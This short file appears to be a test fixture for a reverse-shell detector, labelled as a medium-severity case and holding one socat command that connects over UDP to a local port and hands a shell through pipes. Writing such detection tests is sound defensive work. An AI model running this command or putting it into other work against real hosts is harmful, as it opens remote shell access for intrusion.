# about: socat over UDP, the shell on two pipes
# expect: reverse_shell medium
# needs: python3 socat
proven 4506 udp
(sleep 0.3; exec timeout 6 socat UDP:127.0.0.1:4506 SYSTEM:'echo hello; exec sh',pipes) || true
answered
